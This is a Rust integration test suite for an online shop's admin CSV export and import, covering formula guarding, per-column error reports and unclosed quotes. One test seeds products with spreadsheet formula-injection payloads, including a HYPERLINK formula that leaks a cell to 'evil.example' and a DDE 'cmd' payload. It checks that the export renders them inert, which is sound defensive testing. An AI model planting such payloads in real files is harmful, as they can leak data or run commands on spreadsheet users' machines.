//! The CSV format's own rules through the admin API: cells a spreadsheet
//! would run as formulas are exported guarded and import back unchanged,
//! and a bad row is reported with every problem, each under its column.

use reqwest::Method;
use serde_json::{Value, json};
use storekeep_test_support::{TestApp, spawn_app};

use crate::catalog_support::{body, create, money, shop};
use crate::identity::admin;

async fn export_csv(app: &TestApp, slug: &str, token: &str) -> String {
    let resp = admin(
        app,
        slug,
        token,
        Method::GET,
        "/api/v1/admin/exports/products?format=csv",
    )
    .send()
    .await
    .unwrap();
    assert_eq!(resp.status(), 200);
    resp.text().await.unwrap()
}

async fn import_csv(app: &TestApp, slug: &str, token: &str, file: String) -> Value {
    let resp = admin(
        app,
        slug,
        token,
        Method::POST,
        "/api/v1/admin/imports/products",
    )
    .header("content-type", "text/csv")
    .body(file)
    .send()
    .await
    .unwrap();
    assert_eq!(resp.status(), 200);
    body(resp).await
}

/// Every product of the shop without ids and times, by handle.
async fn products(app: &TestApp, slug: &str, token: &str) -> Vec<Value> {
    let resp = admin(
        app,
        slug,
        token,
        Method::GET,
        "/api/v1/admin/products?limit=200",
    )
    .send()
    .await
    .unwrap();
    let mut items: Vec<Value> = body(resp).await["items"]
        .as_array()
        .unwrap()
        .iter()
        .map(|p| {
            json!({
                "handle": p["handle"], "title": p["title"], "description": p["description"],
                "tags": p["tags"], "status": p["status"],
                "variants": p["variants"].as_array().unwrap().iter().map(|v| json!({
                    "sku": v["sku"], "title": v["title"], "options": v["options"],
                    "price": v["price"], "on_hand": v["inventory"]["on_hand"],
                })).collect::<Vec<_>>(),
            })
        })
        .collect();
    items.sort_by_key(|p| p["handle"].as_str().unwrap().to_owned());
    items
}

/// The cells of a CSV line (no quoted commas in the lines this looks at).
fn first_cells(csv: &str) -> Vec<String> {
    csv.lines()
        .skip(1)
        .flat_map(|l| l.split(',').map(|c| c.trim_start_matches('"').to_owned()))
        .collect()
}

#[tokio::test]
async fn formulas_are_exported_inert_and_import_back_unchanged() {
    let app = spawn_app().await;
    let (owner, _) = shop(&app, "acme", None).await;
    // What a `staff` user could type into the admin, aimed at the owner's spreadsheet.
    create(
        &app,
        "acme",
        &owner,
        &json!({"product": {
            "handle": "bait", "title": "=HYPERLINK(\"http://evil.example/?\"&A1;\"Click\")",
            "description": "+cmd|' /C calc'!A0", "status": "active",
            "tags": ["@sum(1+1)", "plain"],
            "variants": [
                {"sku": "BAIT-1", "title": "-2+3", "options": {"@Size": "=1"},
                 "price": money(1000), "inventory": 2},
                {"sku": "BAIT-2", "title": "'=already guarded by hand", "options": {"@Size": "'+2"},
                 "price": money(1100)},
            ],
        }}),
    )
    .await;
    create(
        &app,
        "acme",
        &owner,
        &json!({"product": {"handle": "honest", "title": "'Quoted' but harmless",
                            "description": "Tab\tinside is fine", "status": "draft",
                            "variants": [{"sku": "H-1", "price": money(500)}]}}),
    )
    .await;
    let original = products(&app, "acme", &owner).await;

    let file = export_csv(&app, "acme", &owner).await;
    for cell in first_cells(&file) {
        assert!(
            !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
            "a live formula cell in the export: {cell:?}\n{file}"
        );
    }
    assert!(file.contains("'=HYPERLINK"), "{file}");
    assert!(file.contains("''=already guarded by hand"), "{file}");
    assert!(
        file.contains(",'Quoted' but harmless,"),
        "left alone: {file}"
    );

    let (copy_owner, _) = shop(&app, "copy", None).await;
    let report = import_csv(&app, "copy", &copy_owner, file.clone()).await;
    assert_eq!(report["failed"], 0, "{report}");
    assert_eq!(products(&app, "copy", &copy_owner).await, original);
    // ...and the copy exports byte for byte the same file.
    assert_eq!(export_csv(&app, "copy", &copy_owner).await, file);
    app.stop().await;
}

#[tokio::test]
async fn a_bad_row_names_every_problem_under_its_column() {
    let app = spawn_app().await;
    let (owner, _) = shop(&app, "acme", None).await;
    let report = import_csv(
        &app,
        "acme",
        &owner,
        "handle,title,sku,price,compare_at_price,inventory,options\n\
         Bad Handle,,,12.50,abc,2.5,Colour\n\
         ok,Fine,OK-1,100,,1,\n\
         stock,Stock,ST-1,100,,-3,\n"
            .to_owned(),
    )
    .await;
    assert_eq!(
        (&report["created"], &report["failed"]),
        (&json!(1), &json!(2)),
        "{report}"
    );
    let first = report["errors"][0]["message"].as_str().unwrap();
    assert_eq!(report["errors"][0]["line"], 2);
    let fields: Vec<&str> = first
        .split("; ")
        .map(|p| p.split(':').next().unwrap())
        .collect();
    assert_eq!(
        fields,
        [
            "handle",
            "title",
            "sku",
            "options",
            "price",
            "compare_at_price",
            "inventory"
        ],
        "{first}"
    );
    assert!(
        first.contains("price: '12.50' is not a whole number of minor units"),
        "{first}"
    );
    assert!(
        first.contains("inventory: '2.5' is not a whole number of units on hand"),
        "{first}"
    );
    assert!(
        !first.contains("inventory: '2.5' is not a whole number of minor"),
        "{first}"
    );
    let second = report["errors"][1]["message"].as_str().unwrap();
    assert_eq!(report["errors"][1]["line"], 4);
    assert!(
        second.starts_with("inventory: must be between 0 and"),
        "{second}"
    );
    app.stop().await;
}

#[tokio::test]
async fn an_unclosed_quote_is_reported_as_a_quote_not_a_price() {
    let app = spawn_app().await;
    let (owner, _) = shop(&app, "acme", None).await;
    let report = import_csv(
        &app,
        "acme",
        &owner,
        "handle,title,sku,price\n\
         lamp,Lamp,L-1,100\n\
         mug,\"Mug, blue,M-1,200\n\
         cup,Cup,C-1,300\n"
            .to_owned(),
    )
    .await;
    assert_eq!(report["created"], 1, "{report}");
    assert_eq!(report["errors"][0]["line"], 3, "{report}");
    let message = report["errors"][0]["message"].as_str().unwrap();
    assert!(
        message.contains("opened on line 3 is never closed"),
        "{message}"
    );
    assert!(!message.contains("price"), "{message}");
    app.stop().await;
}
